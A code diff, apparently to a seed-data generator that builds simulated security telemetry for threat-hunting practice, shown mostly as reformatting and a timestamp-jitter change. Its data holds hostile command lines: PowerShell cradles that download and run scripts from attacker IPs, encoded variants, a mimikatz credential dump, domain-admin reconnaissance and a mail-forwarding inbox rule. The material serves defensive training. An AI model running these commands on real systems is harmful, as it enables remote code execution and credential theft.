@@ -140,7 +140,7 @@ function encodePowerShell(script: string): string {
   return Buffer.from(script, 'utf16le').toString('base64');
 }
 
-export const SEED_COMMAND_LINES = {
+const SEED_COMMAND_LINES = {
   finCradle: `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ipFin}/stage2.ps1')"`,
   finEncoded: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${ipFin}/beacon.ps1')`)}`,
   hrEncoded: `powershell.exe -nop -w hidden -enc ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${ipHr}/update.ps1')`)}`,
@@ -148,8 +148,9 @@ export const SEED_COMMAND_LINES = {
   mimikatz: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
 } as const;
 
+/** `hoursAgo` before now, plus up to a minute of jitter (story steps are at least three minutes apart). */
 function at(nowMs: number, hoursAgo: number, rng: SeedRandom): string {
-  return datetimeFromParts(Math.floor(nowMs - hoursAgo * HOUR_MS), rng.int(0, 9999)) as string;
+  return datetimeFromParts(Math.floor(nowMs - hoursAgo * HOUR_MS) + rng.int(0, 59_999), rng.int(0, 9999)) as string;
 }
 
 function imageOf(file: { fileName: string }, folder: string, description: string): Image {
@@ -168,20 +169,37 @@ function storyProcesses(g: GenContext): Row[] {
       values: { ...real(invoiceFile), ProcessVersionInfoCompanyName: '', InitiatingProcessSignerType: 'OsVendor' },
     }),
     processRow(g, fin, t(20), IMAGES.powershell, invoice, SEED_COMMAND_LINES.finCradle, {
-      values: { InitiatingProcessSHA1: invoiceFile.sha1, InitiatingProcessSHA256: invoiceFile.sha256, InitiatingProcessSignatureStatus: 'Unsigned', InitiatingProcessSignerType: 'None' },
+      values: {
+        InitiatingProcessSHA1: invoiceFile.sha1,
+        InitiatingProcessSHA256: invoiceFile.sha256,
+        InitiatingProcessSignatureStatus: 'Unsigned',
+        InitiatingProcessSignerType: 'None',
+      },
     }),
     processRow(g, fin, t(19.95), IMAGES.powershell, IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, {
       values: { InitiatingProcessCommandLine: SEED_COMMAND_LINES.finCradle },
     }),
     processRow(g, fin, t(19.5), mimikatz, IMAGES.powershell, SEED_COMMAND_LINES.mimikatz, {
-      values: { ...real(mimikatzFile), ProcessIntegrityLevel: 'High', ProcessTokenElevation: 'TokenElevationTypeFull', InitiatingProcessCommandLine: SEED_COMMAND_LINES.finEncoded },
+      values: {
+        ...real(mimikatzFile),
+        ProcessIntegrityLevel: 'High',
+        ProcessTokenElevation: 'TokenElevationTypeFull',
+        InitiatingProcessCommandLine: SEED_COMMAND_LINES.finEncoded,
+      },
     }),
     processRow(g, hr, t(18.2), IMAGES.msedge, IMAGES.outlook, `"msedge.exe" --single-argument ${PHISH_URL}`),
     processRow(g, hr, t(18), IMAGES.powershell, IMAGES.explorer, SEED_COMMAND_LINES.hrEncoded),
     processRow(g, hr, t(17.9), IMAGES.powershell, IMAGES.powershell, SEED_COMMAND_LINES.hrCradle, {
       values: { InitiatingProcessCommandLine: SEED_COMMAND_LINES.hrEncoded },
     }),
-    processRow(g, hr, t(17.8), IMAGES.cmd, IMAGES.powershell, 'cmd.exe /c whoami /all & net group "Domain Admins" /domain'),
+    processRow(
+      g,
+      hr,
+      t(17.8),
+      IMAGES.cmd,
+      IMAGES.powershell,
+      'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
+    ),
   ];
 }
 
@@ -191,12 +209,26 @@ function storyNetwork(g: GenContext): Row[] {
   const t = (h: number) => at(g.nowMs, h, g.rng);
   const remote = (ip: string, port: number) => ({ ip, port, url: '', type: 'Public' });
   return [
-    networkRow(g, fin, t(20), IMAGES.powershell, SEED_COMMAND_LINES.finCradle, remote(ipFin, 80), { RemoteUrl: `http://${ipFin}/stage2.ps1`, Protocol: 'Tcp' }),
-    networkRow(g, fin, t(19.95), IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, remote(ipFin, 80), { RemoteUrl: `http://${ipFin}/beacon.ps1` }),
+    networkRow(g, fin, t(20), IMAGES.powershell, SEED_COMMAND_LINES.finCradle, remote(ipFin, 80), {
+      RemoteUrl: `http://${ipFin}/stage2.ps1`,
+      Protocol: 'Tcp',
+    }),
+    networkRow(g, fin, t(19.95), IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, remote(ipFin, 80), {
+      RemoteUrl: `http://${ipFin}/beacon.ps1`,
+    }),
     networkRow(g, fin, t(19.4), IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, remote(ipFin, 443)),
-    networkRow(g, hr, t(18), IMAGES.powershell, SEED_COMMAND_LINES.hrEncoded, remote(ipHr, 80), { RemoteUrl: `http://${ipHr}/update.ps1` }),
-    networkRow(g, hr, t(17.9), IMAGES.powershell, SEED_COMMAND_LINES.hrCradle, remote(ipHr, 443), { RemoteUrl: `https://${ipHr}/update.ps1` }),
-    networkRow(g, hr, t(18.2), IMAGES.msedge, `"msedge.exe" --single-argument ${PHISH_URL}`, { ip: ipFin, port: 443, url: 'fabrikam-payments.example', type: 'Public' }),
+    networkRow(g, hr, t(18), IMAGES.powershell, SEED_COMMAND_LINES.hrEncoded, remote(ipHr, 80), {
+      RemoteUrl: `http://${ipHr}/update.ps1`,
+    }),
+    networkRow(g, hr, t(17.9), IMAGES.powershell, SEED_COMMAND_LINES.hrCradle, remote(ipHr, 443), {
+      RemoteUrl: `https://${ipHr}/update.ps1`,
+    }),
+    networkRow(g, hr, t(18.2), IMAGES.msedge, `"msedge.exe" --single-argument ${PHISH_URL}`, {
+      ip: ipFin,
+      port: 443,
+      url: 'fabrikam-payments.example',
+      type: 'Public',
+    }),
   ];
 }
 
@@ -256,9 +288,25 @@ function storyIdentity(g: GenContext): Row[] {
   const t = (h: number) => at(g.nowMs, h, g.rng);
   const hostile = { Location: 'NL', Isp: 'Example Hosting Ltd', DeviceName: '', DeviceType: '', OSPlatform: '' };
   return [
-    identityRow(g, amy, t(36), { ...hostile, IPAddress: ipFin, Application: 'Office 365 Exchange Online', AdditionalFields: { Count: 1, ClientApp: 'Browser', UserAgent: 'python-requests/2.31' } }),
-    identityRow(g, amy, t(10), { ...hostile, IPAddress: ipFin, Application: 'Office 365 Exchange Online', AdditionalFields: { Count: 1, ClientApp: 'Browser' } }),
-    identityRow(g, raj, t(30.2), { ...hostile, IPAddress: ipHr, ActionType: 'LogonFailed', FailureReason: 'InvalidPassword', Location: 'RU' }),
+    identityRow(g, amy, t(36), {
+      ...hostile,
+      IPAddress: ipFin,
+      Application: 'Office 365 Exchange Online',
+      AdditionalFields: { Count: 1, ClientApp: 'Browser', UserAgent: 'python-requests/2.31' },
+    }),
+    identityRow(g, amy, t(10), {
+      ...hostile,
+      IPAddress: ipFin,
+      Application: 'Office 365 Exchange Online',
+      AdditionalFields: { Count: 1, ClientApp: 'Browser' },
+    }),
+    identityRow(g, raj, t(30.2), {
+      ...hostile,
+      IPAddress: ipHr,
+      ActionType: 'LogonFailed',
+      FailureReason: 'InvalidPassword',
+      Location: 'RU',
+    }),
     identityRow(g, raj, t(30), { ...hostile, IPAddress: ipHr, Location: 'RU' }),
     identityRow(g, raj, t(6), { ...hostile, IPAddress: ipRdp, Application: 'Microsoft Teams' }),
   ];
@@ -266,7 +314,15 @@ function storyIdentity(g: GenContext): Row[] {
 
 function storyCloud(g: GenContext): Row[] {
   const t = (h: number) => at(g.nowMs, h, g.rng);
-  const hostile = { IPAddress: ipFin, CountryCode: 'NL', City: 'Amsterdam', Isp: 'Example Hosting Ltd', IPCategory: 'Hosting', UserAgent: 'python-requests/2.31', UncommonForUser: ['ISP', 'CountryCode', 'ActionType'] };
+  const hostile = {
+    IPAddress: ipFin,
+    CountryCode: 'NL',
+    City: 'Amsterdam',
+    Isp: 'Example Hosting Ltd',
+    IPCategory: 'Hosting',
+    UserAgent: 'python-requests/2.31',
+    UncommonForUser: ['ISP', 'CountryCode', 'ActionType'],
+  };
   const rule = (action: 'New-InboxRule' | 'Set-InboxRule', parameters: { Name: string; Value: string }[]) => ({
     ...hostile,
     ActionType: action,
@@ -280,22 +336,43 @@ function storyCloud(g: GenContext): Row[] {
       { Type: 'Inbox rule', Name: 'Invoices' },
       ...parameters.map((p) => ({ Type: 'Structured object', Name: p.Name, Value: p.Value })),
     ],
-    RawEventData: { Operation: action, Workload: 'Exchange', ResultStatus: 'True', UserId: amy.upn, ClientIP: ipFin, Parameters: parameters },
+    RawEventData: {
+      Operation: action,
+      Workload: 'Exchange',
+      ResultStatus: 'True',
+      UserId: amy.upn,
+      ClientIP: ipFin,
+      Parameters: parameters,
+    },
   });
   return [
-    cloudRow(g, amy, t(9.2), { ...hostile, ActionType: 'MailItemsAccessed', RawEventData: { Operation: 'MailItemsAccessed', Workload: 'Exchange', MailAccessType: 'Sync' } }),
-    cloudRow(g, amy, t(9), rule('New-InboxRule', [
-      { Name: 'Name', Value: 'Invoices' },
-      { Name: 'SubjectContainsWords', Value: 'invoice;payment;wire' },
-      { Name: 'ForwardTo', Value: FORWARD_TO },
-      { Name: 'MarkAsRead', Value: 'True' },
-      { Name: 'StopProcessingRules', Value: 'True' },
-    ])),
-    cloudRow(g, amy, t(8.5), rule('Set-InboxRule', [
-      { Name: 'Identity', Value: 'Invoices' },
-      { Name: 'ForwardAsAttachmentTo', Value: FORWARD_TO },
-      { Name: 'DeleteMessage', Value: 'True' },
-    ])),
+    cloudRow(g, amy, t(9.2), {
+      ...hostile,
+      ActionType: 'MailItemsAccessed',
+      RawEventData: { Operation: 'MailItemsAccessed', Workload: 'Exchange', MailAccessType: 'Sync' },
+    }),
+    cloudRow(
+      g,
+      amy,
+      t(9),
+      rule('New-InboxRule', [
+        { Name: 'Name', Value: 'Invoices' },
+        { Name: 'SubjectContainsWords', Value: 'invoice;payment;wire' },
+        { Name: 'ForwardTo', Value: FORWARD_TO },
+        { Name: 'MarkAsRead', Value: 'True' },
+        { Name: 'StopProcessingRules', Value: 'True' },
+      ]),
+    ),
+    cloudRow(
+      g,
+      amy,
+      t(8.5),
+      rule('Set-InboxRule', [
+        { Name: 'Identity', Value: 'Invoices' },
+        { Name: 'ForwardAsAttachmentTo', Value: FORWARD_TO },
+        { Name: 'DeleteMessage', Value: 'True' },
+      ]),
+    ),
   ];
 }
 
@@ -367,39 +444,110 @@ function storyAlertEvidence(g: GenContext): Row[] {
     };
     const add = (values: Row) => rows.push(makeAlertEvidenceRow({ ...base, ...values }));
     const machine = (p: typeof fin) =>
-      add({ EntityType: 'Machine', EvidenceRole: 'Impacted', DeviceId: p.device.deviceId, DeviceName: p.device.deviceName, LocalIP: p.localIp, AdditionalFields: JSON.stringify({ HostName: shortName(p) }) });
+      add({
+        EntityType: 'Machine',
+        EvidenceRole: 'Impacted',
+        DeviceId: p.device.deviceId,
+        DeviceName: p.device.deviceName,
+        LocalIP: p.localIp,
+        AdditionalFields: JSON.stringify({ HostName: shortName(p) }),
+      });
     const user = (u: (typeof users)[number], role = 'Impacted') => {
       const p = PROFILES.find((x) => x.user.upn === u.upn);
-      add({ EntityType: 'User', EvidenceRole: role, AccountName: u.accountName, AccountDomain: 'contoso', AccountSid: p ? sidOf(p) : '', AccountObjectId: u.objectId, AccountUpn: u.upn });
+      add({
+        EntityType: 'User',
+        EvidenceRole: role,
+        AccountName: u.accountName,
+        AccountDomain: 'contoso',
+        AccountSid: p ? sidOf(p) : '',
+        AccountObjectId: u.objectId,
+        AccountUpn: u.upn,
+      });
     };
-    const ip = (address: string) => add({ EntityType: 'Ip', EvidenceRole: 'Related', EvidenceDirection: 'Destination', RemoteIP: address });
+    const ip = (address: string) =>
+      add({ EntityType: 'Ip', EvidenceRole: 'Related', EvidenceDirection: 'Destination', RemoteIP: address });
     switch (a.alertId) {
       case SEED_ALERT_IDS[0]:
         machine(fin);
         user(amy);
-        add({ EntityType: 'Process', EvidenceRole: 'Related', DeviceId: fin.device.deviceId, DeviceName: fin.device.deviceName, FileName: 'powershell.exe', FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`, ...digests(IMAGES.powershell), ProcessCommandLine: SEED_COMMAND_LINES.finCradle });
-        add({ EntityType: 'File', EvidenceRole: 'Related', DeviceId: fin.device.deviceId, DeviceName: fin.device.deviceName, FileName: invoiceFile.fileName, FolderPath: `C:\\Users\\${amy.accountName}\\Downloads`, SHA1: invoiceFile.sha1, SHA256: invoiceFile.sha256, FileSize: 1_245_184 });
-        add({ EntityType: 'File', EvidenceRole: 'Related', DeviceId: fin.device.deviceId, DeviceName: fin.device.deviceName, FileName: mimikatzFile.fileName, FolderPath: 'C:\\Users\\Public', SHA1: mimikatzFile.sha1, SHA256: mimikatzFile.sha256, FileSize: 1_355_680, ThreatFamily: 'Mimikatz' });
+        add({
+          EntityType: 'Process',
+          EvidenceRole: 'Related',
+          DeviceId: fin.device.deviceId,
+          DeviceName: fin.device.deviceName,
+          FileName: 'powershell.exe',
+          FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`,
+          ...digests(IMAGES.powershell),
+          ProcessCommandLine: SEED_COMMAND_LINES.finCradle,
+        });
+        add({
+          EntityType: 'File',
+          EvidenceRole: 'Related',
+          DeviceId: fin.device.deviceId,
+          DeviceName: fin.device.deviceName,
+          FileName: invoiceFile.fileName,
+          FolderPath: `C:\\Users\\${amy.accountName}\\Downloads`,
+          SHA1: invoiceFile.sha1,
+          SHA256: invoiceFile.sha256,
+          FileSize: 1_245_184,
+        });
+        add({
+          EntityType: 'File',
+          EvidenceRole: 'Related',
+          DeviceId: fin.device.deviceId,
+          DeviceName: fin.device.deviceName,
+          FileName: mimikatzFile.fileName,
+          FolderPath: 'C:\\Users\\Public',
+          SHA1: mimikatzFile.sha1,
+          SHA256: mimikatzFile.sha256,
+          FileSize: 1_355_680,
+          ThreatFamily: 'Mimikatz',
+        });
         ip(ipFin);
         add({ EntityType: 'Url', EvidenceRole: 'Related', RemoteUrl: `http://${ipFin}/stage2.ps1` });
         break;
       case SEED_ALERT_IDS[1]:
         machine(hr);
         user(lena);
-        add({ EntityType: 'Process', EvidenceRole: 'Related', DeviceId: hr.device.deviceId, DeviceName: hr.device.deviceName, FileName: 'powershell.exe', FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`, ...digests(IMAGES.powershell), ProcessCommandLine: SEED_COMMAND_LINES.hrEncoded });
+        add({
+          EntityType: 'Process',
+          EvidenceRole: 'Related',
+          DeviceId: hr.device.deviceId,
+          DeviceName: hr.device.deviceName,
+          FileName: 'powershell.exe',
+          FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`,
+          ...digests(IMAGES.powershell),
+          ProcessCommandLine: SEED_COMMAND_LINES.hrEncoded,
+        });
         ip(ipHr);
         break;
       case SEED_ALERT_IDS[2]:
-        add({ EntityType: 'MailMessage', EvidenceRole: 'Related', NetworkMessageId: PHISH_MESSAGE_ID, EmailSubject: PHISH_SUBJECT, AdditionalFields: JSON.stringify({ Sender: phishingSender, Recipients: [amy.upn, lena.upn] }) });
+        add({
+          EntityType: 'MailMessage',
+          EvidenceRole: 'Related',
+          NetworkMessageId: PHISH_MESSAGE_ID,
+          EmailSubject: PHISH_SUBJECT,
+          AdditionalFields: JSON.stringify({ Sender: phishingSender, Recipients: [amy.upn, lena.upn] }),
+        });
         user(amy);
         user(lena);
         add({ EntityType: 'Url', EvidenceRole: 'Related', RemoteUrl: PHISH_URL });
         break;
       case SEED_ALERT_IDS[3]:
         user(amy);
-        add({ EntityType: 'CloudApplication', EvidenceRole: 'Related', Application: CLOUD_APPS.exchange.name, ApplicationId: CLOUD_APPS.exchange.id });
+        add({
+          EntityType: 'CloudApplication',
+          EvidenceRole: 'Related',
+          Application: CLOUD_APPS.exchange.name,
+          ApplicationId: CLOUD_APPS.exchange.id,
+        });
         ip(ipFin);
-        add({ EntityType: 'Mailbox', EvidenceRole: 'Related', AccountUpn: amy.upn, AdditionalFields: JSON.stringify({ ForwardTo: FORWARD_TO }) });
+        add({
+          EntityType: 'Mailbox',
+          EvidenceRole: 'Related',
+          AccountUpn: amy.upn,
+          AdditionalFields: JSON.stringify({ ForwardTo: FORWARD_TO }),
+        });
         break;
       default:
         user(raj);
@@ -429,7 +577,19 @@ const STORY: Record<string, { benign: number; story: (g: GenContext) => Row[] }>
   DeviceLogonEvents: { benign: 120, story: storyLogons },
   DeviceInfo: { benign: 0, story: deviceSnapshots },
   EmailEvents: { benign: 110, story: storyEmail },
-  EmailUrlInfo: { benign: 60, story: (g) => [makeUrlRow({ Timestamp: at(g.nowMs, 30, g.rng), NetworkMessageId: PHISH_MESSAGE_ID, Url: PHISH_URL, UrlDomain: 'fabrikam-payments.example', UrlLocation: 'Body', ReportId: g.rng.guid() })] },
+  EmailUrlInfo: {
+    benign: 60,
+    story: (g) => [
+      makeUrlRow({
+        Timestamp: at(g.nowMs, 30, g.rng),
+        NetworkMessageId: PHISH_MESSAGE_ID,
+        Url: PHISH_URL,
+        UrlDomain: 'fabrikam-payments.example',
+        UrlLocation: 'Body',
+        ReportId: g.rng.guid(),
+      }),
+    ],
+  },
   IdentityLogonEvents: { benign: 140, story: storyIdentity },
   CloudAppEvents: { benign: 110, story: storyCloud },
   AlertInfo: { benign: 12, story: storyAlertInfo },
@@ -461,4 +621,3 @@ export function createSeedTables(now: Date): Map<string, KqlTable> {
   }
   return tables;
 }
-
